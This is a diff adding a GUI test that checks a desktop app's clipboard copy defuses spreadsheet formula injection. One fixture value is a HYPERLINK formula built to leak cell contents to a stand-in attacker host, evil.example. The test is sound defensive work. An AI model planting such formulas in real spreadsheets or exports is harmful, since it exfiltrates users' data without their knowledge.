@@ -3,6 +3,7 @@ text and HTML, the visible columns in their on-screen order; text fields keep th
 
 from __future__ import annotations
 
+import html
 import threading
 from collections.abc import Iterator
 
@@ -13,6 +14,7 @@ from pytestqt.qtbot import QtBot
 
 from stewarddesk.catalogue import Catalogue
 from stewarddesk.errors import Cancelled
+from stewarddesk.exporting import cells as exporting_cells
 from stewarddesk.gui import row_copy
 from stewarddesk.gui.browser import BrowserPage
 from stewarddesk.gui.display import COLUMNS
@@ -133,6 +135,37 @@ def test_tabs_and_line_breaks_inside_values_do_not_break_the_table(
     # A cell that starts with a quote is quoted as spreadsheets write it, or they would drop the quotes.
     assert cells[2] == '"""Impulse"" Provence"'
     assert "<td>Club des &quot;dirigeants&quot; saison 2</td>" in clipboard_html()
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_copied_as_text(
+    qtbot: QtBot, window: MainWindow, catalogue: Catalogue
+) -> None:
+    """Pasted text is read as if typed: « =HYPERLINK(…) » would run. Same rule as the CSV export (OWASP):
+    a leading « ' », in the text and in the HTML; other values are untouched."""
+    offers = page(window, "offers")
+    session = window.session
+    assert session is not None
+    entry_id = offers.model.id_at(row_of(offers, "Club des dirigeants"))
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
+    session.undo.update(
+        "offers", entry_id, {"title": formula, "structure": "@Impulse", "site": "-1+2", "status": "active"}
+    )
+    assert catalogue.get("offers", entry_id)["title"] == formula  # the catalogue keeps the text as typed
+    wait_idle(qtbot, window)
+    activate(qtbot, window)
+    offers.table.select_ids([entry_id], entry_id)
+    offers.table.setFocus()
+    ctrl_c(qtbot, offers.table)
+    qtbot.waitUntil(lambda: clipboard_text() != "")
+    header, row = clipboard_text().splitlines()
+    cells = dict(zip(header.split("\t"), row.split("\t"), strict=True))
+    assert cells["Offre"] == "'" + formula
+    assert cells["Structure"] == "'@Impulse"
+    assert cells["Site"] == "'-1+2"
+    assert cells["Statut"] == "Active" and cells["Besoin"] == "Mise en réseau / événements"
+    assert f"<td>{html.escape(chr(39) + formula)}</td>" in clipboard_html()
+    assert "<td>'@Impulse</td>".replace("'", "&#x27;") in clipboard_html()
+    assert all(exporting_cells.csv_unescape(cells[k]) == v for k, v in (("Offre", formula), ("Site", "-1+2")))
 
 
 def test_ctrl_c_in_a_text_field_copies_its_text(qtbot: QtBot, window: MainWindow) -> None:
